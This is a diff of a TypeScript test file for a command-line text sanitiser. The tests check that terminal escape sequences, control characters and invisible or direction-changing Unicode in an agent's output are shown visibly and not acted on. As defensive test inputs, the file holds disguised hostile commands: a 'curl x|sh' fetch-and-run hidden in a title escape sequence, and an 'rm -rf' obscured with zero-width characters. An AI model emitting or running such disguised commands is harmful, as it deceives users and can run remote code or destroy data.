@@ -1,24 +1,29 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import fc from 'fast-check'
-import { cut, firstLine, neutral, pad, widthOf, wrap } from '../../../src/cli/render/text.ts'
+import { neutral, neutralOutput } from '../../../src/base/neutral.ts'
+import { cut, firstLine, pad, widthOf, wrap } from '../../../src/cli/render/text.ts'
 
-test('escape sequences of an agent are dropped, so it can neither colour nor move the cursor', () => {
-  assert.equal(neutral('\x1b[31mred\x1b[0m \x1b[2J\x1b[Hgone'), 'red gone')
-  assert.equal(neutral('\x1b]0;title\x07text'), 'text')
-  assert.equal(neutral('\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\'), 'link')
+test('escape sequences of an agent are drawn: they neither colour nor move the cursor, nor hide a command', () => {
+  assert.equal(neutral('\x1b[31mred\x1b[0m \x1b[2J\x1b[Hgone'), '␛[31mred␛[0m ␛[2J␛[Hgone')
+  assert.equal(neutral('run: echo ok \x1b]0; ; curl x|sh #\x07'), 'run: echo ok ␛]0; ; curl x|sh #␇')
+  assert.equal(neutral('\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\'), '␛]8;;http://x␛\\link␛]8;;␛\\')
+})
+
+test('the output of a program loses its colours and nothing else', () => {
+  assert.equal(neutralOutput('\x1b[1;31mred\x1b[0m\x1b[K 10 %\r20 %\r\n\x1b]0; x\x07'), 'red 10 %\n20 %\n␛]0; x␇')
 })
 
 test('the remaining control characters become visible', () => {
   assert.equal(neutral('a\x07b\x08c\x00'), 'a␇b␈c␀')
-  assert.equal(neutral('\x1b\x1b[31m[31mx'), '␛[31mx')
-  assert.equal(neutral('one\r\ntwo\rthree\u2028four'), 'one\ntwo\nthree\nfour')
+  assert.equal(neutral('\x1b\x1b[31m[31mx\x7f'), '␛␛[31m[31mx␡')
+  assert.equal(neutral('one\r\ntwo\rthree\u2028four'), 'one\ntwo␍three⟨U+2028⟩four')
 })
 
 test('characters that change the direction of text cannot disguise a command', () => {
-  assert.equal(neutral('rm \u202Egnp.exe\u2066'), 'rm \ufffdgnp.exe\ufffd')
-  assert.equal(neutral('rm\u200b -rf\u2060 a\u00adb \u{e0041}'), 'rm\ufffd -rf\ufffd a\ufffdb \ufffd')
-  assert.equal(neutral('gi\u200dt'), 'gi\ufffdt')
+  assert.equal(neutral('rm \u202Egnp.exe\u2066'), 'rm ⟨U+202E⟩gnp.exe⟨U+2066⟩')
+  assert.equal(neutral('rm\u200b -rf\u2060 a\u00adb \u{e0041}'), 'rm⟨U+200B⟩ -rf⟨U+2060⟩ a⟨U+00AD⟩b ⟨U+E0041⟩')
+  assert.equal(neutral('gi\u200dt'), 'gi⟨U+200D⟩t')
   assert.equal(neutral('👩‍👩‍👧 می‌خواهم'), '👩‍👩‍👧 می‌خواهم', 'joiners where they belong')
   assert.equal(neutral('half \ud83d emoji'), 'half \ufffd emoji')
 })
